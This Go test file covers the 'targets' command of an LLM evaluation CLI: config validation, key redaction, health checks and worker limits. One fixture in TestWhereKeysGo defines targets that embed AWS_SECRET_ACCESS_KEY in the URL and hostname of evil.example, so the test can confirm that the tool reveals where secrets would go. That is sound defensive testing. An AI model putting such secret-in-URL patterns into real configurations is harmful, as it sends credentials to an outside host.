package cli_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// TestTargets lists targets with where they and their keys are from, and asks
// them only when it is told to.
func TestTargets(t *testing.T) {
	asked := 0
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked++
		switch r.Header.Get("Authorization") {
		case "Bearer " + judgeKey:
			io.WriteString(w, `{"choices":[{"message":{"content":"y"},"finish_reason":"length"}]}`)
		default:
			w.WriteHeader(http.StatusForbidden)
			io.WriteString(w, `{"error":"no: `+r.Header.Get("Authorization")+`"}`)
		}
	}))
	defer site.Close()
	for _, name := range []string{"ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL"} {
		t.Setenv(name, "")
	}
	t.Setenv("OPENAI_API_KEY", "sk-environment-1")
	t.Setenv("HEAT", "sk-environment-2")
	dir := write(t, map[string]string{
		".git/HEAD": "", "evals/x.eval.yaml": good, ".env": "JUDGE_KEY=" + judgeKey + "\n", ".agentv/targets.yaml": "targets:\n" +
			"  - { name: well, provider: openai, model: gpt, base_url: '" + site.URL + "', api_key: '${{ JUDGE_KEY }}', judge_target: plain }\n" +
			"  - { name: plain, provider: openai, model: gpt, base_url: '" + site.URL + "', api_key: sk-in-the-file-1 }\n" +
			"  - { name: usual, provider: openai, model: gpt }\n",
		"more/targets.yaml": "targets:\n  - { name: keyless, provider: anthropic, model: claude }\n  - { name: unset, provider: gemini, model: g, api_key: '${{ NOT_SET_A }}' }\n" +
			"  - { name: other, provider: vscode }\n  - { name: said, provider: mock }\n  - { name: coder, provider: codex, model: o }\n  - { name: sick, provider: cli, command_template: x, healthcheck: { type: command, command_template: 'false' } }\n  - { name: untold, provider: cli, command_template: x }\n",
		"odd/targets.yaml": "targets:\n  - { name: typo, provider: opanai, model: g }\n  - { name: judged, provider: mock, judge_target: tpyo }\n  - { name: model, provider: mock, judge_target: 'opneai:gpt' }\n  - { name: command, provider: mock, judge_target: 'cli:x' }\n  - { name: hot, provider: openai, model: g, api_key: x, temperature: '${{ HEAT }}' }\n" +
			"  - { name: late, provider: openai, model: g, api_key: x, timeout_seconds: soon }\n" +
			"  - { name: free, provider: gemini, model: g, api_key: x, thinking_budget: -1, seed: '-1' }\n  - { name: far, provider: openai, model: g, api_key: x, seed: 1234567890123 }\n" +
			"  - { name: long, provider: openai, model: g, api_key: x, timeout_seconds: 2e12 }\n  - { name: less, provider: openai, model: g, api_key: x, max_retries: -1 }\n  - { name: seldom, provider: openai, model: g, api_key: x, requests_per_minute: 0.5 }\n  - { name: well, provider: openai, model: g, api_key: x, temperature: '0.5', max_retries: 0, judge_target: offline }\n",
		"shapes/targets.yaml": "targets:\n  - { name: well, provider: ollama, model: m, headers: { X-Team: 1 }, retry_status_codes: [500, '503'] }\n" +
			"  - { name: keys, provider: openai, model: g, api_key: [sk-in-the-file-1] }\n  - { name: heads, provider: ollama, model: g, headers: [X-Team] }\n" +
			"  - { name: header, provider: ollama, model: g, headers: { X-Team: { a: b } } }\n  - { name: codes, provider: ollama, model: g, retry_status_codes: '500,503' }\n" +
			"  - { name: code, provider: ollama, model: g, retry_status_codes: [soon] }\n  - { name: agent, provider: codex, system_prompt: [one, two] }\n  - { name: well, provider: mock }\n",
		"unnamed/targets.yaml": "targets:\n  - { name: '${{ NOT_SET_A }}', provider: openai, model: other, api_key: '${{ HEAT }}' }\n  - { name: it, provider: '${{ SERVED_BY }}', model: own, api_key: '${{ JUDGE_KEY }}' }\n", "unnamed/.env": "SERVED_BY=gemini\nJUDGE_KEY=" + judgeKey + "\n",
		"misspelt/targets.yaml": "targets:\n  - { name: hot, provider: openai, model: g, api_key: x, temprature: 1 }\n  - { name: well, provider: cli, command_template: x, healthcheck: { type: http, url: u, methd: GET } }\n",
		"empty/.git/HEAD":       "", "cli.yaml": "targets: [{ name: untold, provider: cli, command_template: x }]\n",
	})
	out := t.TempDir()
	secrets := []string{judgeKey, "sk-in-the-file-1", "sk-environment-1", "sk-environment-2"}
	for _, c := range []struct {
		args, want string
		code       int
	}{
		{"DIR/evals/x.eval.yaml", "well   openai    gpt    127.0.0.1:|  plain      ${{ JUDGE_KEY }}     DIR/.agentv/targets.yaml:2|  -          written in the file|usual  openai    gpt    api.openai.com ", 0},
		{"DIR/evals --format json", `"name": "well",|"key": "${{ JUDGE_KEY }}",|"line": 2`, 0},
		{"DIR/more", "keyless: `anthropic` needs a key; set ANTHROPIC_API_KEY in the environment or a .env file|unset: not set in the environment or a .env file beside or above the targets file: NOT_SET_A|other: the provider `vscode` is not supported: its agent works in a window", 1},
		{"DIR/more --format json", `"provider": "codex",|"model": "o",`, 1},
		{"--check --targets DIR/more/targets.yaml", "said: ok|coder: not tested, because it has no `healthcheck`|untold: not tested, because it has no `healthcheck`|sick: |its healthcheck failed: the command exited with status 1", 3},
		{"--check --targets DIR/cli.yaml", "untold: not tested", 0},
		{"DIR/odd", "typo: the provider `opanai` is not built in; did you mean `openai`?|judged: its `judge_target` is `tpyo`, but there is no such target; did you mean `typo`?\nmodel: its `judge_target` is `opneai:gpt`, but there is no such judge; did you mean `openai`?\nhot: its `temperature` is not a number of at least 0\nlate: its `timeout_seconds` is not a number of at least 0\nlong: its `timeout_seconds` is more than 1000000000000\nless: its `max_retries` is not a number of at least 0\nseldom: its `requests_per_minute` is less than 1\n", 1},
		{"DIR/shapes", "keys: its `api_key` is not a text\nheads: its `headers` is not a mapping of names to texts\nheader: its `headers` is not a mapping of names to texts\ncodes: its `retry_status_codes` is not a list of numbers\n" +
			"code: its `retry_status_codes` is not a list of numbers\nagent: its `system_prompt` is not a text\nwell: another target above has the same name and is used instead\n", 1},
		{"DIR/unnamed", "it    gemini    own    generativelanguage.googleapis.com  -          ${{ JUDGE_KEY }}  DIR", 0},
		{"DIR/misspelt", "hot: nothing uses its `temprature`; did you mean `temperature`?\nwell: nothing uses its `methd`\n", 0},
		{"DIR/misspelt --format json", "\"nothing uses its `methd`\"", 0},
		{"DIR/empty", "no targets.yaml was found in DIR/empty or above it; name one with --targets", 2},
		{"OUT", "no targets.yaml was found in OUT or in the working folder (parent folders are searched only in a Git repository); name one with --targets", 2},
		{"DIR/gone", "DIR/gone: no such file or folder", 2},
		{"--targets DIR/evals/x.eval.yaml", "DIR/evals/x.eval.yaml: has no `targets` or `providers` with a name", 2},
		{"a b", "takes only PATH", 2},
		{"--format xml", "--format must be `text` or `json`", 2},
		{"--timeout 0s", "--timeout must be a duration", 2},
	} {
		code, stdout, stderr := rubric(t, "", append([]string{"targets"}, strings.Fields(strings.NewReplacer("DIR", dir, "OUT", out).Replace(c.args))...)...)
		if code != c.code {
			t.Errorf("%s: exit status %d", c.args, code)
		}
		for part := range strings.SplitSeq(strings.NewReplacer("DIR", dir, "OUT", out).Replace(c.want), "|") {
			if !strings.Contains(stdout+stderr, part) {
				t.Errorf("%s: %q is not in\n%s%s", c.args, part, stdout, stderr)
			}
		}
		for _, secret := range secrets {
			if strings.Contains(stdout+stderr, secret) {
				t.Errorf("%s: it tells %s", c.args, secret)
			}
		}
	}
	if asked > 0 {
		t.Errorf("%d requests without --check", asked)
	}
	t.Setenv("OPENAI_API_KEY", "")
	code, stdout, _ := rubric(t, "", "targets", "--check", filepath.Join(dir, "evals"))
	if code != 3 || !strings.Contains(stdout, "well: ok\n") || !strings.Contains(stdout, "plain: openai:gpt: the key from its target's `api_key` was not accepted (status 403): no: Bearer [key]") || asked != 2 {
		t.Errorf("%d after %d requests:\n%s", code, asked, stdout)
	}
}

// TestTargetsAskOnce: who looks whether a target answers is told what it says, and does
// not wait for what it may say later.
func TestTargetsAskOnce(t *testing.T) {
	asked := 0
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		asked++
		w.Header().Set("Retry-After", "1")
		w.WriteHeader(http.StatusTooManyRequests)
	}))
	defer site.Close()
	dir := write(t, map[string]string{"targets.yaml": "targets: [{ name: it, provider: ollama, model: m, base_url: '" + site.URL + "' }]\n"})
	code, stdout, _ := rubric(t, "", "targets", "--check", dir)
	if code != 3 || asked != 1 || !strings.Contains(stdout, "it: ollama:m: the provider's rate limit is reached (status 429)\nit: its price is unknown; ") {
		t.Errorf("%d after %d requests:\n%s", code, asked, stdout)
	}
}

// TestRunTellsWhatNothingReads checks that misspelt settings of a used target are
// reported once, before it is asked, and those of other targets are not.
func TestRunTellsWhatNothingReads(t *testing.T) {
	dir := write(t, map[string]string{
		"a.eval.yaml": good, "b.eval.yaml": good,
		"targets.yaml": "targets:\n  - { name: it, provider: mock, response: We refund you., dealy_ms: 5, judge_target: hot }\n" +
			"  - { name: hot, provider: cli, command_template: 'echo x', timeot_seconds: 5 }\n  - { name: mock, provider: mock, respons: x }\n" +
			"  - { name: it, provider: mock, respons: x }\n",
	})
	at := filepath.Join(dir, "targets.yaml")
	want := "rubric: " + at + ":2: target `it`: nothing uses its `dealy_ms`; did you mean `delay_ms`?\n" +
		"rubric: " + at + ":3: target `hot`: nothing uses its `timeot_seconds`; did you mean `timeout_seconds`?\n" +
		"rubric: " + at + ":5: target `it`: another target above has the same name and is used instead\n"
	if _, _, stderr := rubric(t, "", "run", filepath.Join(dir, "a.eval.yaml"), filepath.Join(dir, "b.eval.yaml"), "--target", "it"); stderr != want {
		t.Errorf("%s\nwant\n%s", stderr, want)
	}
	for _, target := range []string{"self", "mock:We refund you."} {
		if _, _, stderr := rubric(t, "", "run", filepath.Join(dir, "a.eval.yaml"), "--target", target); stderr != "" {
			t.Errorf("of targets that nobody asks: %s", stderr)
		}
	}
}

// TestWhereKeysGo: the list of targets, a dry run and --check say which host gets which
// key, and never a key. A dry run says it of the judge of a mock too.
func TestWhereKeysGo(t *testing.T) {
	asked := 0
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		asked++
		io.WriteString(w, `{"choices":[{"message":{"content":"y"},"finish_reason":"stop"}]}`)
	}))
	defer site.Close()
	at := strings.TrimPrefix(site.URL, "http://")
	const secret = "aws-1234567890"
	for name, value := range map[string]string{"OPENAI_API_KEY": "sk-environment-1", "OPENAI_BASE_URL": "", "AWS_SECRET_ACCESS_KEY": secret, "TEAM": "evals"} {
		t.Setenv(name, value)
	}
	dir := write(t, map[string]string{"x.eval.yaml": good, "local.yaml": "targets: [{ name: local, provider: openai, model: m, base_url: '" + site.URL + "', api_key: '${{ OPENAI_API_KEY }}' }, { name: well, provider: cli, command_template: x, healthcheck: { type: command, command_template: 'true' } }]\n", "targets.yaml": "targets:\n" +
		"  - { name: evil, provider: openai, base_url: 'http://evil.example:8080/${{ AWS_SECRET_ACCESS_KEY }}', api_key: '${{ OPENAI_API_KEY }}', headers: { X-Team: '${{ TEAM }}' }, model: '${{ AWS_SECRET_ACCESS_KEY }}' }\n" +
		"  - { name: host, provider: openai, model: m, base_url: 'https://${{ AWS_SECRET_ACCESS_KEY }}.evil.example' }\n" +
		"  - { name: mockjudged, provider: mock, response: hi, judge_target: evil }\n" +
		"  - { name: usual, provider: openai, model: gpt-4.1-mini }\n" +
		"  - { name: resource, provider: azure, endpoint: mine, model: d, api_key: k }\n" +
		"  - { name: agent, provider: cli, command_template: 'echo {PROMPT}', healthcheck: { type: http, url: '" + site.URL + "/well' } }\n",
	})
	sends := "evil` asks http://evil.example:8080 with the key from `OPENAI_API_KEY` of the environment and sends `AWS_SECRET_ACCESS_KEY` in its `base_url`, `AWS_SECRET_ACCESS_KEY` in its `model` and `TEAM` in its `headers`\n"
	for _, c := range []struct{ args, want string }{
		{"targets DIR", " HOST |  http://evil.example:8080  |  [key].evil.example  |  api.openai.com  |  mine.openai.azure.com  |  " + at + "  "},
		{"targets DIR --format json", `"host": "api.openai.com"`},
		{"run DIR/x.eval.yaml --dry-run --target evil", "        target `" + sends},
		{"run DIR/x.eval.yaml --dry-run --target mockjudged", "        judge `" + sends},
		{"run DIR/x.eval.yaml --dry-run --target mockjudged --format json", `"role": "judge",|"host": "http://evil.example:8080",`},
		{"run DIR/x.eval.yaml --dry-run --target agent", "target `agent` runs `echo` and asks " + at + " whether it is ready\n"},
		{"run DIR/x.eval.yaml --dry-run --target cli:echo --judge openai:m --judge usual", "target `cli:echo` runs `echo`\n|judge `openai:m` asks api.openai.com with the key from `OPENAI_API_KEY`|judge `usual` asks api.openai.com"},
		{"targets --check --targets DIR/local.yaml", "rubric: local asks " + at + " with the key from `OPENAI_API_KEY` of the environment\nrubric: well runs `true`\n|local: ok"},
	} {
		asked = 0
		_, stdout, stderr := rubric(t, "", strings.Fields(strings.ReplaceAll(c.args, "DIR", dir))...)
		for part := range strings.SplitSeq(c.want, "|") {
			if !strings.Contains(stdout+stderr, part) {
				t.Errorf("%s: no %q in\n%s%s", c.args, part, stdout, stderr)
			}
		}
		if strings.Contains(stdout+stderr, secret) || strings.Contains(stdout+stderr, "sk-environment") || (asked > 0) != strings.Contains(c.args, "--check") {
			t.Errorf("%s: a key is shown, or %d requests\n%s%s", c.args, asked, stdout, stderr)
		}
	}
	if _, stdout, _ := rubric(t, "", "run", filepath.Join(dir, "x.eval.yaml"), "--dry-run"); strings.Contains(stdout, "asks ") {
		t.Error(stdout)
	}
}

// TestTargetWorkers: as many cases are asked at a time as the target's definition
// says, unless a person says otherwise. The target answers only when four wait.
func TestTargetWorkers(t *testing.T) {
	const together = 4
	var mu sync.Mutex
	waiting, all := 0, make(chan struct{})
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		if waiting++; waiting == together {
			close(all)
		}
		mu.Unlock()
		_, _ = io.Copy(io.Discard, r.Body) // so that a client that goes is noticed
		select {
		case <-all:
			io.WriteString(w, `{"message":{"content":"We refund you."},"done":true}`)
		case <-r.Context().Done():
		}
	}))
	defer site.Close()
	dir := write(t, map[string]string{
		"x.eval.yaml":  three + "  - { id: d, expected_outcome: O, input: Q, rubrics: [Mentions “refund”] }\n",
		"targets.yaml": "targets: [{ name: it, provider: ollama, model: m, base_url: '" + site.URL + "', workers: 4, max_retries: 0 }]\n",
	})
	run := []string{"run", filepath.Join(dir, "x.eval.yaml"), "--target", "it"}
	if code, stdout, stderr := rubric(t, "", append(run, "--timeout", "2m")...); code != 0 || !strings.Contains(stdout, "4 pass") {
		t.Errorf("%d\n%s%s", code, stdout, stderr)
	}
	waiting, all = 0, make(chan struct{})
	if code, stdout, _ := rubric(t, "", append(run, "--timeout", "100ms", "--workers", "2")...); code != 3 || !strings.Contains(stdout, "timed out after 100ms") {
		t.Errorf("%d\n%s", code, stdout)
	}
}
